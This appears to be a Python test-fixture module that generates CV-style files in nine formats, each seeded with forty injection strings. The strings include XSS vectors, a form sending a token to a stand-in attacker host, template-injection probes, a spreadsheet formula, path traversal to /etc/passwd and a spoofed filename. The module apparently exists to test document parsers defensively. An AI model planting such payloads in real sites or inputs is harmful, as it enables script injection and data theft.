"""Forty strings that would run or break out somewhere, were they taken for more than words; and writers of files full of them."""

from __future__ import annotations

import csv
import html
import io
import json
from collections.abc import Callable, Mapping

import docx
import yaml
from odf.opendocument import OpenDocumentText
from odf.text import H, P

RUN = "window.__ran=1"
STRINGS: tuple[str, ...] = (
    f"<script>{RUN}</script>", f"<SCRIPT SRC=data:text/javascript,{RUN}></SCRIPT>", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f'"><img src=x onerror="{RUN}">', f"'><svg onload={RUN}>", f"<svg/onload={RUN}>",
    f"<body onload={RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<iframe src=javascript:{RUN}></iframe>",
    f"<a href=javascript:{RUN}>click</a>", f"[click](javascript:{RUN})", f"![x](x\"onerror=\"{RUN})", f"<javascript:{RUN}>",
    f'" autofocus onfocus="{RUN}', f"' onmouseover='{RUN}", f"` onclick={RUN} `", f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<math><mtext><style><img src=x onerror={RUN}>", f"<object data=data:text/html,{RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>*{background:url(//evil.example/)}</style>", "<form action=//evil.example/><input name=token>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"%3Cscript%3E{RUN}%3C/script%3E", "{{ 7*7 }}{% set x = 1 %}", "${7*7}#{7*7}<%= 7*7 %>",
    f"=HYPERLINK(\"javascript:{RUN}\")", f"';{RUN};//", f"\");{RUN};(\"", "../../../../etc/passwd", "\u202egpj.exe\u2066", "ＳＣＲＩＰＴ ﹤script﹥ \u2028\u2029",
)  # fmt: skip
"""Each in a line of its own."""

STORY = "I cut run time by {n}% with Kafka at Zorvane Works, as {string} said."


def lines() -> list[str]:
    """Return a sentence of work around each string, each with a figure, so that there is something to be found."""
    return [STORY.format(n=n + 10, string=string) for n, string in enumerate(STRINGS)]


def as_markdown() -> bytes:
    front = yaml.safe_dump(
        {"title": STRINGS[0], "author": f"Mallory {STRINGS[6]}", "tags": list(STRINGS[:5])}, allow_unicode=True
    )
    stories = "\n".join(f"## Project: {string}\n\n{line}\n" for string, line in zip(STRINGS, lines(), strict=True))
    return f"---\n{front}---\n\n# {STRINGS[2]}\n\n{stories}".encode()


def as_text() -> bytes:
    return "\n\n".join([f"Work of {STRINGS[6]}", *lines()]).encode()


def as_html() -> bytes:
    words = "".join(
        f"<h2>{html.escape(s)}</h2><p title={s!r}>{html.escape(line)}</p>{s}"
        for s, line in zip(STRINGS, lines(), strict=True)
    )
    return f"<!doctype html><title>{html.escape(STRINGS[0])}</title><h1>Work</h1>{words}".encode()


def _keyed() -> dict[str, object]:
    work = [
        {"name": string, "position": string, "highlights": [line]}
        for string, line in zip(STRINGS, lines(), strict=True)
    ]
    return {
        "basics": {"name": "Mallory Vane", "label": STRINGS[0], "summary": STRINGS[9]},
        "work": work,
        "skills": [{"name": s} for s in STRINGS],
    }


def as_yaml() -> bytes:
    return yaml.safe_dump(_keyed(), allow_unicode=True).encode()


def as_json() -> bytes:
    return json.dumps(_keyed(), ensure_ascii=False).encode()


def as_csv() -> bytes:
    text = io.StringIO()
    csv.writer(text).writerows(
        [
            ("project", "technologies", "result"),
            *((s, f"Kafka; {s}", line) for s, line in zip(STRINGS, lines(), strict=True)),
        ]
    )
    return text.getvalue().encode()


def as_word() -> bytes:
    made = docx.Document()
    made.core_properties.title = STRINGS[0]
    made.core_properties.author = f"Mallory {STRINGS[6]}"
    for string, line in zip(STRINGS, lines(), strict=True):
        made.add_heading(string, 2)
        made.add_paragraph(line, style="List Bullet")
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


def as_open_document() -> bytes:
    made = OpenDocumentText()
    for string, line in zip(STRINGS, lines(), strict=True):
        made.text.addElement(H(outlinelevel=2, text=string))
        made.text.addElement(P(text=line))
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


def as_latex() -> bytes:
    plain = str.maketrans(
        {c: f"\\{c}" for c in "#$%&_{}"}
        | {"\\": "\\textbackslash{}", "~": "\\textasciitilde{}", "^": "\\textasciicircum{}"}
    )
    items = "".join(
        f"\\section{{{s.translate(plain)}}}\n{line.translate(plain)}\n"
        for s, line in zip(STRINGS, lines(), strict=True)
    )
    return f"\\documentclass{{article}}\\begin{{document}}\n{items}\\end{{document}}".encode()


FILES: Mapping[str, Callable[[], bytes]] = {
    'a"b<c>&d.md': as_markdown, "notes.txt": as_text, "<img src=x onerror=alert(1)>.html": as_html, "cv.yaml": as_yaml,
    "cv.json": as_json, "table.csv": as_csv, "cv.docx": as_word, "cv.odt": as_open_document, "cv.tex": as_latex,
}  # fmt: skip
"""Name of a file → what writes it: one document of each format that holds text of one's own, with all strings in it."""
